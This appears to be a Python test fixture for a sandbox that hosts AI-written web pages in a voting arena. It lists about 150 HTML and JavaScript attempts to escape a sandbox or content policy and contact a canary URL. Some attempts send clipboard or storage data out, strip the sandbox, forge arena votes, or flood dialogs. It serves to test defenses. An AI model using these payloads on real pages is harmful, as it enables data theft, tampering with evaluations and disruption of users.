"""Attempts of a page to reach the network, the arena around it, or storage; each is an HTML body.

@U@ is a URL of the canary with the name of the attempt in its path, @W@ the same for web sockets, and @S@ a STUN server
on the same host. Two public lists are included: the 23 techniques of datasette-apps' browser tests, and those of the 63
in simonw/research `test-csp-iframe-escape` that differ (its rounds repeat the same ones for other policies).
"""

from __future__ import annotations

from typing import Final


def script(body: str) -> str:
    return f"<script>{body}</script>"


def element_script(tag: str, **attributes: str) -> str:
    """A script that adds an element with these properties to the page."""
    lines = "".join(f"e.{name} = {value!r};" for name, value in attributes.items())
    return script(f"const e = document.createElement('{tag}'); {lines} document.documentElement.append(e); e.load?.();")


DATASETTE: Final = {
    "self-navigation": script("location.href = '@U@'"),
    "top-navigation": script("top.location.href = '@U@'"),
    "popup": script("open('@U@', '_blank')"),
    "anchor-top": script(
        "const a = document.createElement('a'); a.href = '@U@'; a.target = '_top'; document.body.append(a); a.click()"
    ),
    "anchor-ping": script(
        "const a = document.createElement('a'); a.href = '#'; a.ping = '@U@'; document.body.append(a); a.click()"
    ),
    "meta-refresh": '<meta http-equiv="refresh" content="0; url=@U@">',
    "form-get": '<form id="f" action="@U@"><input name="x" value="1"></form>' + script("f.submit()"),
    "form-top": '<form id="f" action="@U@" target="_top"></form>' + script("f.submit()"),
    "image": element_script("img", src="@U@"),
    "script-src": element_script("script", src="@U@"),
    "stylesheet": element_script("link", rel="stylesheet", href="@U@"),
    "nested-frame": element_script("iframe", src="@U@"),
    "object": element_script("object", data="@U@"),
    "audio": element_script("audio", src="@U@", preload="auto"),
    "prefetch": element_script("link", rel="prefetch", href="@U@"),
    "css-import": "<style>@import url('@U@');</style>",
    "svg-image": '<svg><image href="@U@" width="9" height="9"/></svg>',
    "fetch-no-cors": script("fetch('@U@', { mode: 'no-cors' }).catch(() => 0)"),
    "beacon": script("navigator.sendBeacon('@U@', 'x')"),
    "xhr-post": script("const x = new XMLHttpRequest(); x.open('POST', '@U@'); x.send('x')"),
    "websocket": script("new WebSocket('@W@')"),
    "worker": script("new Worker('@U@')"),
    "dynamic-import": script("import('@U@').catch(() => 0)"),
}
_FREE: Final = "<meta http-equiv='Content-Security-Policy' content='default-src * data: blob: 'unsafe-inline''>"
_CALL: Final = (
    "<script>const p = new RTCPeerConnection({ iceServers: [{ urls: '@S@' }] }); p.createDataChannel('x');"
    "p.createOffer().then((o) => p.setLocalDescription(o))</script>"
)
_QUOTED: Final = _CALL.replace("</", "<\\/")
"""The same call, escaped for use inside a script."""
_ROOT: Final = '<div><template shadowrootmode=closed><iframe srcdoc="' + _CALL + '"></iframe></template></div>'
_QUOTED_ROOT: Final = _ROOT.replace("</", "<\\/")
_DATA: Final = "location.href = 'data:text/html,' + encodeURIComponent"
RESEARCH: Final = {
    "policy-removed": script(
        "document.querySelectorAll('meta').forEach((m) => m.remove()); fetch('@U@', { mode: 'no-cors' })"
    ),
    "policy-second": _FREE + script("fetch('@U@', { mode: 'no-cors' })"),
    "policy-changed": script("document.head.innerHTML = `" + _FREE + "`; new Image().src = '@U@'"),
    "document-written": script("document.open(); document.write('<img src=\"@U@\">'); document.close()"),
    "document-written-late": script("setTimeout(() => { document.write('<img src=\"@U@\">'); document.close() }, 50)"),
    "delayed-fetch": script("setTimeout(() => fetch('@U@', { mode: 'no-cors' }).catch(() => 0), 200)"),
    "event-source": script("new EventSource('@U@')"),
    "xhr-get": script("const x = new XMLHttpRequest(); x.open('GET', '@U@'); x.send()"),
    "beacon-blob": script("navigator.sendBeacon('@U@', new Blob(['x'], { type: 'text/plain' }))"),
    "service-worker": script("navigator.serviceWorker?.register('@U@').catch(() => 0)"),
    "worker-blob": script("new Worker(URL.createObjectURL(new Blob([\"fetch('@U@', { mode: 'no-cors' })\"])))"),
    "worker-data": script(
        "new Worker('data:text/javascript,' + encodeURIComponent(\"fetch('@U@', { mode: 'no-cors' })\"))"
    ),
    "refresh-to-data": '<meta http-equiv="refresh" content="0; url=data:text/html,<img src=@U@>">',
    "data-fetch": script(f"{_DATA}(\"<script>fetch('@U@', {{ mode: 'no-cors' }})<\\/script>\")"),
    "data-xhr": script(
        f"{_DATA}(\"<script>const x = new XMLHttpRequest(); x.open('GET', '@U@'); x.send()<\\/script>\")"
    ),
    "data-image": script(f"{_DATA}('<img src=\"@U@\">')"),
    "data-beacon": script(f"{_DATA}(\"<script>navigator.sendBeacon('@U@')<\\/script>\")"),
    "refresh-to-script": "<meta http-equiv=\"refresh\" content=\"0; url=javascript:fetch('@U@',{mode:'no-cors'})\">",
    "blob-navigation": script(
        "location.href = URL.createObjectURL(new Blob(['<img src=\"@U@\">'], { type: 'text/html' }))"
    ),
    "nested-srcdoc": script(
        "const f = document.createElement('iframe'); f.srcdoc = '<img src=\"@U@\">'; document.body.append(f)"
    ),
    "nested-blank": script(
        "const f = document.createElement('iframe'); document.body.append(f);"
        "f.contentWindow.fetch('@U@', { mode: 'no-cors' })"
    ),
    "nested-unsandboxed": script(
        "const f = document.createElement('iframe');"
        "f.sandbox = 'allow-scripts allow-same-origin allow-top-navigation';"
        "f.srcdoc = \"<script>top.location = '@U@'<\\/script>\"; document.body.append(f)"
    ),
}
OTHER_ATTEMPTS: Final = {
    "fetch-keepalive": script(
        "fetch('@U@', { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' }).catch(() => 0)"
    ),
    "fetch-later": script("window.fetchLater?.('@U@', { activateAfter: 0 })"),
    "sync-xhr": script("const x = new XMLHttpRequest(); x.open('GET', '@U@', false); x.send()"),
    "preload": element_script("link", rel="preload", href="@U@"),
    "modulepreload": element_script("link", rel="modulepreload", href="@U@"),
    "preconnect": element_script("link", rel="preconnect", href="@U@"),
    "dns-prefetch": element_script("link", rel="dns-prefetch", href="@U@"),
    "prerender": element_script("link", rel="prerender", href="@U@"),
    "manifest": element_script("link", rel="manifest", href="@U@"),
    "icon": element_script("link", rel="icon", href="@U@"),
    "speculation": '<script type="speculationrules">{"prefetch":[{"urls":["@U@"]}],'
    '"prerender":[{"urls":["@U@"]}]}</script>',
    "import-map": '<script type="importmap">{"imports":{"x":"@U@"}}</script><script type="module">import "x"</script>',
    "module-src": '<script type="module" src="@U@"></script>',
    "img-srcset": '<img srcset="@U@ 1x">',
    "picture-source": '<picture><source srcset="@U@"><img></picture>',
    "input-image": '<input type="image" src="@U@">',
    "video-poster": '<video poster="@U@"></video>',
    "video-source": '<video autoplay muted><source src="@U@"></video>',
    "video-track": '<video src="data:video/mp4,"><track default src="@U@"></video>',
    "embed": '<embed src="@U@">',
    "frameset": script("document.documentElement.innerHTML = '<frameset><frame src=\"@U@\"></frameset>'"),
    "portal": element_script("fencedframe", config="@U@"),
    "css-background": "<style>body { background: url('@U@') }</style>",
    "css-font": "<style>@font-face { font-family: x; src: url('@U@') } body { font-family: x }</style><p>x</p>",
    "css-image-set": "<style>body { background: image-set('@U@' 1x) }</style>",
    "css-cursor": "<style>body { cursor: url('@U@'), auto }</style>",
    "css-content": "<style>p::before { content: url('@U@') }</style><p>x</p>",
    "css-filter": "<style>p { filter: url('@U@#x') }</style><p>x</p>",
    "css-mask": "<style>p { mask-image: url('@U@') }</style><p>x</p>",
    "css-sheet-object": script(
        "const s = new CSSStyleSheet(); s.replaceSync(\"body{background:url('@U@')}\");"
        "document.adoptedStyleSheets = [s]"
    ),
    "font-face-object": script("new FontFace('x', \"url('@U@')\").load().catch(() => 0)"),
    "svg-use": '<svg><use href="@U@#x"/></svg>',
    "svg-feimage": '<svg><filter id="q"><feImage href="@U@"/></filter>'
    '<rect width="9" height="9" filter="url(#q)"/></svg>',
    "svg-script": '<svg><script href="@U@"></script></svg>',
    "svg-foreign": "<svg><foreignObject><img src='@U@'></foreignObject></svg>",
    "svg-data-image": "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'>"
    "<image href='@U@'/></svg>\">",
    "xslt": "<?xml-stylesheet href='@U@'?>"
    + script("new DOMParser().parseFromString('<!DOCTYPE x SYSTEM \"@U@\"><x/>', 'text/xml')"),
    "base-href": "<base href='@U@'><img src='x.png'>",
    "body-background": script("document.body.setAttribute('background', '@U@')"),
    "audio-object": script("new Audio('@U@').play().catch(() => 0)"),
    "shared-worker": script("new SharedWorker('@U@')"),
    "worklet": script("CSS.paintWorklet?.addModule('@U@')"),
    "audio-worklet": script("new OfflineAudioContext(1, 1, 44100).audioWorklet?.addModule('@U@').catch(() => 0)"),
    "web-transport": script("new WebTransport?.('@U@'.replace('http', 'https'))"),
    "webrtc": script(
        "const p = new RTCPeerConnection({ iceServers: [{ urls: '@S@' }] }); p.createDataChannel('x');"
        "p.createOffer().then((o) => p.setLocalDescription(o))"
    ),
    "webrtc-of-a-frame": script(
        "const f = document.createElement('iframe'); document.body.append(f);"
        "const p = new f.contentWindow.RTCPeerConnection({ iceServers: [{ urls: '@S@' }] }); p.createDataChannel('x');"
        "p.createOffer().then((o) => p.setLocalDescription(o))"
    ),
    "webrtc-of-a-document": script(
        "document.open(); document.write(\"<script>const p = new RTCPeerConnection({ iceServers: [{ urls: '@S@' }] });"
        "p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o))<\\/script>\");"
        "document.close()"
    ),
    "webrtc-of-a-srcdoc": script(
        "const f = document.createElement('iframe'); f.srcdoc = \"<script>"
        "const p = new RTCPeerConnection({ iceServers: [{ urls: '@S@' }] }); p.createDataChannel('x');"
        'p.createOffer().then((o) => p.setLocalDescription(o))<\\/script>"; document.body.append(f)'
    ),
    "webrtc-of-markup": '<iframe srcdoc="' + _CALL.replace('"', "&quot;") + '"></iframe>',
    "webrtc-of-a-shadow": script(
        "const h = document.createElement('p'), f = document.createElement('iframe');"
        f'f.srcdoc = "{_QUOTED}";'
        "h.attachShadow({ mode: 'closed' }).append(f); document.body.append(h)"
    ),
    "webrtc-of-a-kept-frame": script(
        "Element.prototype.remove = MutationObserver.prototype.observe = () => 0;"
        f'document.body.innerHTML = `<iframe srcdoc="{_QUOTED}"></iframe>`'
    ),
    "webrtc-of-a-parsed-root": _ROOT,
    "webrtc-of-a-written-root": script(f"document.write(`{_QUOTED_ROOT}`)"),
    "webrtc-of-a-root-in-pieces": script(f"document.write(`{_QUOTED_ROOT}`.split('rootmode')[0] + 'root')")
    + _ROOT.partition("shadowroot")[2],
    "webrtc-of-a-set-root": script(
        f"const d = document.createElement('div'); d.setHTMLUnsafe(`{_QUOTED_ROOT}`); document.body.append(d)"
    ),
    "webrtc-of-an-adopted-root": script(
        f"document.body.append(Document.parseHTMLUnsafe(`{_QUOTED_ROOT}`).body.firstChild)"
    ),
    "webrtc-of-a-cloned-root": script(
        "const h = document.createElement('div'); h.attachShadow({ mode: 'closed', clonable: true }).innerHTML ="
        f'`<iframe srcdoc="{_QUOTED}"></iframe>`; document.body.append(h.cloneNode(true))'
    ),
    "webrtc-of-an-unrecorded-frame": script(
        "Object.defineProperty(MutationRecord.prototype, 'addedNodes', { get: () => [] });"
        f'document.body.innerHTML = `<iframe srcdoc="{_QUOTED}"></iframe>`'
    ),
    "webrtc-of-an-uncounted-frame": script(
        "Object.defineProperty(NodeList.prototype, 'length', { get: () => 0 });"
        f'const d = document.createElement("div"); d.innerHTML = `<iframe srcdoc="{_QUOTED}"></iframe>`;'
        "document.body.append(d)"
    ),
    "webrtc-after-data": script(
        f"{_DATA}(\"<script>const p = new RTCPeerConnection({{ iceServers: [{{ urls: '@S@' }}] }});"
        "p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o))<\\/script>\")"
    ),
    "form-post": '<form id="f" action="@U@" method="post"></form>' + script("f.submit()"),
    "form-button": '<form><button id="b" formaction="@U@"></button></form>' + script("b.click()"),
    "form-javascript": "<form id=f action=\"javascript:fetch('@U@',{mode:'no-cors'})\"></form>" + script("f.submit()"),
    "anchor-self": '<a id="a" href="@U@">x</a>' + script("a.click()"),
    "anchor-parent": '<a id="a" href="@U@" target="_parent">x</a>' + script("a.click()"),
    "anchor-blank": '<a id="a" href="@U@" target="_blank">x</a>' + script("a.click()"),
    "anchor-download": '<a id="a" href="@U@" download>x</a>' + script("a.click()"),
    "area": '<map><area id="a" href="@U@"></map>' + script("a.click()"),
    "location-replace": script("location.replace('@U@')"),
    "location-assign": script("setInterval(() => location.assign('@U@'), 50)"),
    "parent-location": script("parent.location = '@U@'"),
    "sibling-location": script("parent.frames[1].location = '@U@'"),
    "top-open": script("top.open('@U@')"),
    "opener": script("(opener ?? top).location = '@U@'"),
    "navigation-api": script("navigation.navigate('@U@')"),
    "history": script("history.pushState(0, '', '@U@')"),
    "open-named": script("open('@U@', '_top'); open('@U@', '_parent'); open('@U@', '_self')"),
    "javascript-url": script("location.href = \"javascript:fetch('@U@',{mode:'no-cors'})\""),
    "unload": script("addEventListener('pagehide', () => { navigator.sendBeacon('@U@'); new Image().src = '@U@' })"),
    "reporting": script("new ReportingObserver(() => 0).observe(); document.domain"),
    "csp-report": "<meta http-equiv='Content-Security-Policy' content=\"img-src 'none'; report-uri @U@\"><img src='x'>",
    "payment": script(
        "new PaymentRequest([{ supportedMethods: '@U@' }],"
        "{ total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).show()"
    ),
    "credential": script(
        "navigator.credentials?.get({ identity: { providers: [{ configURL: '@U@', clientId: 'x' }] } }).catch(() => 0)"
    ),
    "attribution": '<img attributionsrc="@U@">',
    "shared-storage": script("window.sharedStorage?.createWorklet?.('@U@')"),
    "cross-window-fetch": script("parent.fetch('@U@')"),
    "parent-arena": script("parent.arena.act('vote', 'a')"),
    "parent-click": script("parent.document.querySelector('#vote_a').click()"),
    "parent-storage": script("new Image().src = '@U@?' + parent.localStorage.length"),
    "frame-element": script("frameElement.removeAttribute('sandbox')"),
    "message-forged": script(
        "for (const m of ['begun', { vote: 'a' }, { outcome: 'a' }, { address: '@U@' }]) parent.postMessage(m, '*')"
    ),
    "message-flood": script("for (let n = 0; n < 20000; n++) parent.postMessage('begun', '*')"),
    "key-dispatched": script(
        "parent.dispatchEvent?.(new KeyboardEvent('keydown', { key: 'ArrowLeft', altKey: true }))"
    ),
    "storage-real": script(
        "delete window.localStorage; try {"
        "Object.getOwnPropertyDescriptor(Window.prototype, 'localStorage').get.call(window);"
        "new Image().src = '@U@' } catch { 0 }"
    ),
    "indexed-db": script("indexedDB.open('x').onsuccess = () => { new Image().src = '@U@' }"),
    "caches": script("caches.open('x').then(() => { new Image().src = '@U@' })"),
    "clipboard": script("navigator.clipboard?.readText().then((t) => { new Image().src = '@U@?' + t }, () => 0)"),
    "camera": script(
        "navigator.mediaDevices?.getUserMedia({ video: true }).then(() => { new Image().src = '@U@' }, () => 0)"
    ),
    "geolocation": script("navigator.geolocation?.getCurrentPosition(() => { new Image().src = '@U@' })"),
    "notification": script("Notification?.requestPermission?.()"),
    "broadcast": script("new BroadcastChannel('x').postMessage('@U@')"),
    "print": script("print(); new Image().src = '@U@'"),
    "dialogs": script("for (let n = 0; n < 50; n++) { alert(n); confirm(n); prompt(n) }"),
    "audio-flood": script(
        "const c = new AudioContext(); setInterval(() => { const o = c.createOscillator(); o.connect(c.destination);"
        "o.start() }, 1); new Audio('data:audio/wav;base64,UklGRg==').play().then(() => { new Image().src = '@U@' })"
    ),
    "fullscreen": script("document.documentElement.requestFullscreen().catch(() => 0)"),
    "pointer-lock": script("document.documentElement.requestPointerLock?.()"),
    "register-protocol": script("navigator.registerProtocolHandler('web+x', '@U@?%s')"),
    "share": script("navigator.share?.({ url: '@U@' }).catch(() => 0)"),
}
ATTEMPTS: Final = {**DATASETTE, **RESEARCH, **OTHER_ATTEMPTS}


def document(body: str) -> str:
    return f"<!DOCTYPE html><html><body><p>page</p>\n{body}\n</body></html>"


def page(body: str) -> str:
    """A model's answer that contains a page with this body."""
    return f"```html\n{document(body)}\n```"
